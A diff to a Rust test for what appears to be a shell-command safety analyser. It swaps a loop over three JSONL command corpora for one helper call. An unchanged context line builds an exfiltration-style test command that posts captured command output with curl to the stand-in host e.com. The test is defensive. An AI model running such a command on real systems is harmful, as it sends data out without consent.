@@ -56,19 +56,7 @@ fn the_walkers_shortcuts_change_no_analysis() {
         commands.push(format!("x=$({plain}); curl -d \"$x\" https://e.com"));
         commands.push(format!("watch {plain}"));
     }
-    for corpus in [
-        "realworld-shell/commands.jsonl",
-        "dcg-command-corpus/cases.jsonl",
-        "cc-safety-net-cases/cases.jsonl",
-    ] {
-        if let Some(path) = toolgate_corpora::corpus(corpus) {
-            commands.extend(
-                toolgate_corpora::read_jsonl(&path)
-                    .iter()
-                    .filter_map(|row| row["command"].as_str().map(str::to_string)),
-            );
-        }
-    }
+    commands.extend(toolgate_corpora::shell_commands());
     let mut plain = 0usize;
     for command in &commands {
         assert_eq!(
